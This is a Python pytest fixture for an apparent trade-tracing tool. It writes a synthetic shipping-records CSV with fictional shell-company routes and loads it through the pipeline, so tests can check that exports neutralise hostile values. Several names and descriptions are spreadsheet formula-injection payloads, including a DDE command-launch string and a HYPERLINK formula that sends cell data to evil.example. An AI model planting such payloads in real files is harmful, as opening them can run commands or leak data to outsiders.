"""A small case loaded from a CSV through the real pipeline (load → resolve), with hostile names.

Company names and descriptions start with what a spreadsheet would run (``=cmd|' /C calc'!A0``, ``+``,
``-``, ``@``, tab, CR): every export must keep them inert, and FtM must still validate them.
"""

from __future__ import annotations

import csv

import pytest

CMD = "=cmd|' /C calc'!A0"
HOSTILE_NAMES = [CMD, "+1 Trading Limited", "@SUM(1+1) Holdings Ltd", "-2 Quimica SA de CV"]
MAKER = "Velora Chemical Co., Ltd."
NOTIFY = "Harbor Link Logistics"  # no legal form in its name
SHELL_ADDRESS = "Flat 5, 88 Nathan Road, Tsim Sha Tsui, Kowloon, Hong Kong"
COLUMNS = ["record_id", "date", "shipper_name", "shipper_address", "shipper_country", "consignee_name",
           "consignee_address", "consignee_country", "notify_name", "hs_code", "description", "weight_kg",
           "value_usd", "port_of_lading", "port_of_unlading", "country_of_origin"]


def case_rows() -> list[dict]:
    maker = (MAKER, "12 Huaxia Road, Jiangxia District, Wuhan, China", "CN")
    shells = [(CMD, SHELL_ADDRESS, "HK"), ("+1 Trading Limited", SHELL_ADDRESS, "HK"),
              ("@SUM(1+1) Holdings Ltd", SHELL_ADDRESS, "HK")]
    importer = ("-2 Quimica SA de CV", "Av. Insurgentes Sur 1602, Ciudad de Mexico", "MX")
    buyer = ("\tTabulada Distribuidora SA", "\rCalle 5 No. 10, Culiacan, Sinaloa", "MX")
    legit = [("Orlen Plastics GmbH", "Hauptstrasse 4, 20095 Hamburg", "DE"),
             ("Bayfield Furniture Inc", "400 Harbor Blvd, Long Beach, CA 90802", "US")]
    rows = []

    def ship(day: str, frm, to, hs, desc, kg, usd, pol, pod, origin):
        rows.append({"record_id": f"BL{len(rows) + 1:04d}", "date": day, "shipper_name": frm[0],
                     "shipper_address": frm[1], "shipper_country": frm[2], "consignee_name": to[0],
                     "consignee_address": to[1], "consignee_country": to[2], "notify_name": "",
                     "hs_code": hs, "description": desc, "weight_kg": kg, "value_usd": usd,
                     "port_of_lading": pol, "port_of_unlading": pod, "country_of_origin": origin})

    for i, shell in enumerate(shells):
        ship(f"2023-0{i + 2}-03", maker, shell, "293339", "1-BOC-4-PIPERIDONE", 25, 2500, "WUHAN", "HONG KONG", "CN")
        ship(f"2023-0{i + 3}-10", shell, importer, "293339", '=HYPERLINK("http://evil.example/"&A1)', 25, 9000,
             "HONG KONG", "MANZANILLO", "CN")
    ship("2023-07-01", importer, buyer, "293339", "@CHEMICAL SAMPLE", 20, 15000, "MANZANILLO", "CULIACAN", "CN")
    rows[-1]["notify_name"] = NOTIFY
    ship("2023-07-15", importer, buyer, "382499", "+INDUSTRIAL MIXTURE", 40, 3000, "MANZANILLO", "CULIACAN", "MX")
    for i in range(4):
        ship(f"2023-0{i + 1}-20", legit[0], legit[1], "392690", "PLASTIC FITTINGS", 1000 + i, 5000, "HAMBURG",
             "LONG BEACH", "DE")
    return rows


def write_case(path) -> None:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, COLUMNS)
        writer.writeheader()
        writer.writerows(case_rows())


def load_case(folder):
    import tracekit

    folder.mkdir(parents=True, exist_ok=True)
    write_case(folder / "case.csv")
    ws = tracekit.Workspace(folder / "ws")
    ws.load(folder / "case.csv", mapping="generic", progress=False)
    ws.resolve(progress=False)
    return ws


@pytest.fixture(scope="module")
def case_ws(tmp_path_factory):
    """The hostile case, loaded and resolved once per test module."""
    ws = load_case(tmp_path_factory.mktemp("case"))
    yield ws
    ws.close()
